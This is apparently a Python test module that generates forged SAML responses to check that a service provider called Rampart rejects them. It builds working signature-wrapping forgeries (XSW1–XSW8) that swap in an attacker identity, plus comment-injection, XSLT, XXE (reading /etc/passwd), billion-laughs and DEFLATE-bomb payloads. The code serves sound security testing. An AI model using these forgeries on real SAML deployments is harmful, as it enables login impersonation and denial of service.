"""Forged SAML responses, made from a genuine one signed by pysaml2, for the attack suite that
interop/test_sso_saml.py posts to Rampart's ACS over HTTP. Each function takes the genuine Response
XML and returns the forgery. The eight signature-wrapping layouts follow Somorovsky et al., "On
Breaking SAML" (2012), as SAML Raider builds them: a legitimately signed element moved where a
careless SP does not read it, and an attacker's element where it does. (RampartSAMLTests builds the
same layouts in Swift against the validator alone, with responses signed by its own test IdP.)
"""
from __future__ import annotations

import base64
import copy
import zlib

from lxml import etree

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
NS = {"samlp": SAMLP, "saml": SAML, "ds": DS}
EVIL = "mallory@evil.example.test"


def parse(xml: str) -> etree._Element:
    return etree.fromstring(xml.encode())


def dump(root: etree._Element) -> str:
    return etree.tostring(root, encoding="unicode")


def encode(xml: str) -> str:
    return base64.b64encode(xml.encode()).decode()


def decode(saml_response: str) -> str:
    return base64.b64decode(saml_response).decode()


def assertion(root):
    return root.find("saml:Assertion", NS)


def signature(element):
    return element.find("ds:Signature", NS)


def unsigned(element):
    """A copy without its own signature."""
    result = copy.deepcopy(element)
    if (sig := signature(result)) is not None:
        result.remove(sig)
    return result


def evil(element, new_id: str | None = "_evil"):
    """A copy that names the attacker instead (NameID and every attribute value that held the person's)."""
    result = copy.deepcopy(element)
    person = result.find(".//saml:NameID", NS).text
    for node in result.iter():
        if node.text == person:
            node.text = EVIL
    if new_id:
        result.set("ID", new_id)
    return result


def object_holding(element):
    holder = etree.Element(f"{{{DS}}}Object")
    holder.append(element)
    return holder


def unchanged(xml: str) -> str:
    """Parsed and written again, unchanged: the control that the forgeries fail for what they change."""
    return dump(parse(xml))


# MARK: - Signature wrapping (XSW1–XSW8)

def evil_response(xml: str):
    """For a signed Response: the original, and the attacker's Response (new IDs, the original's Signature kept)."""
    original = parse(xml)
    root = evil(original, "_evil_r")
    assertion(root).set("ID", "_evil_a")
    return original, root


def xsw1(xml: str) -> str:
    """Signed Response: an attacker's Response at the root; the original inside its Signature."""
    original, root = evil_response(xml)
    signature(root).append(object_holding(unsigned(original)))
    return dump(root)


def xsw1_lean(xml: str) -> str:
    """XSW1 with the copy's assertion removed, so only one assertion is left: the Reference gives it away."""
    original, root = evil_response(xml)
    copy_ = unsigned(original)
    copy_.remove(assertion(copy_))
    signature(root).append(object_holding(copy_))
    return dump(root)


def xsw2(xml: str) -> str:
    """Signed Response: an attacker's Response at the root; the original before its Signature."""
    original, root = evil_response(xml)
    signature(root).addprevious(unsigned(original))
    return dump(root)


def xsw3(xml: str) -> str:
    """An attacker's assertion placed before the signed one."""
    root = parse(xml)
    signed = assertion(root)
    signed.addprevious(evil(unsigned(signed)))
    return dump(root)


def xsw4(xml: str) -> str:
    """An attacker's assertion wrapping the signed one."""
    root = parse(xml)
    signed = assertion(root)
    wrapper = evil(unsigned(signed))
    root.replace(signed, wrapper)
    wrapper.append(signed)
    return dump(root)


def xsw5(xml: str) -> str:
    """The signed assertion changed in place (signature kept), an unsigned copy of the original appended."""
    root = parse(xml)
    signed = assertion(root)
    root.append(unsigned(signed))
    root.replace(signed, evil(signed, new_id=None))
    return dump(root)


def forged_holding_original(xml: str, original_keeps_id: bool) -> str:
    """An attacker's assertion (same ID, signature kept) holding the original, unsigned, in an Object of its Signature."""
    root = parse(xml)
    signed = assertion(root)
    forged = evil(signed, new_id=None)
    original = unsigned(signed)
    if not original_keeps_id:
        original.attrib.pop("ID")
    signature(forged).append(object_holding(original))
    root.replace(signed, forged)
    return dump(root)


def xsw6(xml: str) -> str:
    """The original, with its ID, inside the attacker's assertion's Signature."""
    return forged_holding_original(xml, original_keeps_id=True)


def xsw7(xml: str) -> str:
    """The signed assertion inside an Extensions element, the attacker's after it."""
    root = parse(xml)
    signed = assertion(root)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    root.replace(signed, extensions)
    extensions.append(signed)
    extensions.addnext(evil(unsigned(signed), new_id=None))
    return dump(root)


def xsw8(xml: str) -> str:
    """As XSW6, but the original keeps no ID of its own for a Reference to resolve."""
    return forged_holding_original(xml, original_keeps_id=False)


# MARK: - Other forgeries of a signed response

def signature_removed(xml: str) -> str:
    root = parse(xml)
    signed = assertion(root)
    signed.remove(signature(signed))
    return dump(root)


def two_assertions(xml: str) -> str:
    root = parse(xml)
    second = copy.deepcopy(assertion(root))
    second.set("ID", second.get("ID") + "-2")
    assertion(root).addnext(second)
    return dump(root)


def comment_in_name_id(xml: str) -> str:
    """`victim@x.evil.test` signed, sent as `victim@x<!---->.evil.test`: an SP reading only the first
    text node would see `victim@x`. The signature still verifies (canonical XML drops comments)."""
    root = parse(xml)
    for node in assertion(root).iter(f"{{{SAML}}}NameID", f"{{{SAML}}}AttributeValue"):
        if node.text and ".evil.test" in node.text:
            head, _, tail = node.text.partition(".evil.test")
            node.text = head
            comment = etree.Comment("")
            node.append(comment)
            comment.tail = ".evil.test" + tail
    return dump(root)


def destination_changed(xml: str, destination: str) -> str:
    """The (unsigned) Response's Destination set to `destination`."""
    root = parse(xml)
    root.set("Destination", destination)
    return dump(root)


def xslt_transform(xml: str) -> str:
    root = parse(xml)
    transforms = signature(assertion(root)).find("ds:SignedInfo/ds:Reference/ds:Transforms", NS)
    transform = etree.SubElement(transforms, f"{{{DS}}}Transform", Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116")
    transforms.insert(0, transform)
    stylesheet = etree.SubElement(transform, "{http://www.w3.org/1999/XSL/Transform}stylesheet", version="1.0")
    template = etree.SubElement(stylesheet, "{http://www.w3.org/1999/XSL/Transform}template", match="/")
    etree.SubElement(template, "{http://www.w3.org/1999/XSL/Transform}copy-of", select=".")
    return dump(root)


def _with_doctype(xml: str, doctype: str, name_id_text: str | None) -> str:
    body = dump(parse(xml))
    if name_id_text:
        root = parse(xml)
        person = root.find(".//saml:NameID", NS).text
        body = body.replace(f">{person}<", f">{name_id_text}<")
    return doctype + body


def doctype(xml: str) -> str:
    return _with_doctype(xml, "<!DOCTYPE Response>", None)


def external_entity(xml: str) -> str:
    return _with_doctype(xml, '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;")


def billion_laughs(xml: str) -> str:
    laughs = '<!DOCTYPE r [<!ENTITY l0 "ha">' + "".join(
        f'<!ENTITY l{i} "{"".join(f"&l{i - 1};" for _ in range(10))}">' for i in range(1, 10)) + "]>"
    return _with_doctype(xml, laughs, "&l9;")


def deflate_bomb(size: int = 10_000_000) -> str:
    """A Redirect-binding value (raw DEFLATE, base64) of a few KiB that inflates to `size` bytes."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(compressor.compress(b" " * size) + compressor.flush()).decode()
